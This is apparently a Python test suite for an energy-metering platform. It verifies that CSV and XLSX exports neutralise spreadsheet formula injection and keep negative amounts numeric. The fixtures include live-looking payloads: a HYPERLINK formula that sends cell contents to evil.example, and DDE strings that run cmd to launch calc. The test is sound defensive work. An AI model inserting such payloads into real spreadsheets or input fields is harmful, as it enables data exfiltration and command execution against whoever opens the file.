"""Every CSV and XLSX export keeps formula-like text as text (spreadsheet formula injection),
and numbers, negative amounts included, as numbers."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timedelta, timezone

from openpyxl import load_workbook

from adapters.sheets import read_sheet
from ledger.sheet_import import SHEET_COLUMNS

API = "/api/v1"
T0 = datetime(2026, 3, 2, 0, 0, tzinfo=timezone.utc)
SHOP = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
GATEWAY = "+cmd|' /C calc'!A0"
BUILDING = "@SUM(1+1)*cmd|' /C calc'!A0"
FLOOR = "-2+3"
UNIT = "=1+1"
ORDER = "=2+5"
EVIL = {SHOP, GATEWAY, BUILDING, FLOOR, UNIT, ORDER}


def ok(response, status=200):
    assert response.status_code == status, response.text
    return response


def mall(client, platform, clock):
    clock.now = T0
    site = ok(client.post(f"{API}/sites", json={"name": "Mall"}), 201).json()["id"]
    shop = ok(client.post(f"{API}/accounts", json={"name": SHOP, "site_id": site}),
              201).json()["id"]
    tariff = ok(client.post(f"{API}/tariffs", json={
        "name": "Flat", "kind": "flat", "price": "1.0000",
        "effective_from": "2026-01-01T00:00:00+08:00"}), 201).json()["id"]
    rows = [{"gateway_name": GATEWAY, "gateway_host": "10.0.0.1", "gateway_port": "502",
             "gateway_protocol": "modbus-tcp", "meter_no": f"{n + 1:012d}",
             "kind": "electricity", "mode": "prepaid" if n == 0 else "monitoring",
             "address": str(n + 1), "profile": "ref-prepaid-v1", "ct_ratio": "1",
             "account_id": shop if n == 0 else "", "tariff_id": tariff,
             "building": BUILDING, "floor": FLOOR, "unit": UNIT} for n in range(2)]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=SHEET_COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    ok(client.post(f"{API}/meters/import", params={"site_id": site},
                   content=out.getvalue().encode(), headers={"content-type": "text/csv"}))
    # The shop's meter (the master for the losses report) uses less than the other one,
    # so the loss is negative: a number, which must stay a number.
    clock.now = T0 + timedelta(days=40)
    start, end = T0 + timedelta(hours=1), T0 + timedelta(days=1)
    ok(client.post(f"{API}/readings", json={"readings": [
        {"meter_no": m, "read_at": t.isoformat(), "total_kwh": v}
        for m, t, v in (("000000000001", start, "0"), ("000000000002", start, "0"),
                        ("000000000001", end, "10.00"), ("000000000002", end, "12.50"))]}))
    ok(client.post(f"{API}/accounts/{shop}/top-ups", json={"amount": "5.00", "channel": "cash"},
                   headers={"Idempotency-Key": str(uuid.uuid4())}), 201)
    meters = {m["meter_no"]: m["id"] for m in client.get(f"{API}/meters").json()["items"]}
    for _ in range(platform.ledger.devices.offline_after):  # the gateway stops answering
        platform.ledger.devices.record_poll_failures([(uuid.UUID(m),
                                                       "timeout") for m in meters.values()])
    return site, meters


def wechat_bill(out_trade_no: str) -> bytes:
    header = ("交易时间,公众账号ID,商户号,特约商户号,设备号,微信订单号,商户订单号,用户标识,交易类型,"
              "交易状态,付款银行,货币种类,应结订单金额,代金券金额,微信退款单号,商户退款单号,退款金额,"
              "充值券退款金额,退款类型,退款状态,商品名称,商户数据包,手续费,费率,订单金额,申请退款金额,"
              "费率备注")
    values = ["2026-03-01 10:00:00", "wx0", "1900000001", "0", "", "4200" + "0" * 24,
              out_trade_no, "o-test", "NATIVE", "SUCCESS", "OTHERS", "CNY", "5.00", "0.00", "",
              "", "0.00", "0.00", "", "", "prepaid", "", "0.03", "0.60%", "5.00", "0.00", ""]
    return "\n".join([header, ",".join("`" + v for v in values)]).encode()


def exports(client, site, meters):
    """(name, request) for every export the platform offers, in both formats."""
    for fmt in ("csv", "xlsx"):
        yield f"meters.{fmt}", client.get(f"{API}/meters/export",
                                          params={"site_id": site, "format": fmt})
        for group_by in ("meter", "account", "building"):
            yield f"energy-{group_by}.{fmt}", client.get(
                f"{API}/reports/energy", params={"group_by": group_by, "format": fmt})
        yield f"account-periods.{fmt}", client.get(
            f"{API}/reports/account-periods", params={"month": "2026-03", "format": fmt})
        yield f"sales.{fmt}", client.get(f"{API}/reports/sales", params={"format": fmt})
        yield f"alarms.{fmt}", client.get(f"{API}/reports/alarms", params={"format": fmt})
        yield f"offline.{fmt}", client.get(f"{API}/reports/offline", params={"format": fmt})
        yield f"losses.{fmt}", client.get(f"{API}/reports/losses", params={
            "month": "2026-03", "master_meter_id": meters["000000000001"], "format": fmt})
        yield f"reconciliation.{fmt}", client.post(
            f"{API}/payments/reconciliations", params={"channel": "wechat", "format": fmt},
            content=wechat_bill(ORDER), headers={"content-type": "text/csv"})


def cells(name: str, content: bytes) -> list[tuple[str, object]]:
    """(column header, cell value) of every data cell; XLSX cells must not be formulas."""
    if name.endswith(".csv"):
        table = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
        return [(table[0][i], value) for row in table[1:] for i, value in enumerate(row)]
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    found = []
    for row in sheet.iter_rows(min_row=1):
        for cell in row:
            assert cell.data_type != "f", (name, cell.coordinate, cell.value)
            if cell.row > 1:
                found.append((header[cell.column - 1], cell.value))
    return found


def test_formula_like_names_export_as_text_and_numbers_stay_numbers(client, platform, clock):
    site, meters = mall(client, platform, clock)
    seen: dict[str, set] = {}
    for name, response in exports(client, site, meters):
        ok(response)
        values = cells(name, response.content)
        texts = {v for _, v in values if isinstance(v, str)}
        seen[name] = {v[1:] for v in texts if v[1:] in EVIL}
        # Nothing formula-like goes out bare: each such cell is the text with ' before it.
        assert not texts & EVIL, (name, texts & EVIL)
        assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for v in texts), name
        # Negative numbers are numbers, not neutralised text.
        for column, value in values:
            if column in ("closing", "consumption", "loss_kwh", "refunds", "reversals"):
                assert not str(value).startswith("'"), (name, column, value)
    for fmt in ("csv", "xlsx"):
        assert seen[f"meters.{fmt}"] == {GATEWAY, BUILDING, FLOOR, UNIT}
        assert seen[f"energy-building.{fmt}"] == {BUILDING}
        assert seen[f"account-periods.{fmt}"] == {SHOP}
        assert seen[f"sales.{fmt}"] == {BUILDING}
        assert seen[f"offline.{fmt}"] == {GATEWAY}
        assert seen[f"reconciliation.{fmt}"] == {ORDER}
    losses = dict(cells("losses.csv", client.get(f"{API}/reports/losses", params={
        "month": "2026-03", "master_meter_id": meters["000000000001"],
        "format": "csv"}).content))
    assert losses["loss_kwh"] == "-2.50"
    closing = [v for c, v in cells("a.csv", client.get(f"{API}/reports/account-periods", params={
        "month": "2026-03", "format": "csv"}).content) if c == "closing"]
    assert "-10.00" in closing  # 10.00 kWh at 1.0000; the top-up came in April


def test_an_exported_meter_sheet_with_formula_like_names_imports_back_unchanged(
        client, platform, clock):
    site, _ = mall(client, platform, clock)
    for fmt, content_type in (("csv", "text/csv"), ("xlsx", "application/vnd.openxmlformats-"
                                                            "officedocument.spreadsheetml.sheet")):
        exported = ok(client.get(f"{API}/meters/export", params={"site_id": site, "format": fmt}))
        rows = [r for _, r in read_sheet(exported.content, fmt)]
        assert {(r["gateway_name"], r["building"], r["floor"]) for r in rows} == {
            (GATEWAY, BUILDING, FLOOR)}
        again = ok(client.post(f"{API}/meters/import", params={"site_id": site},
                               content=exported.content, headers={"content-type": content_type}))
        assert again.json() == {"gateways_created": 0, "meters_created": 0, "unchanged": 2}
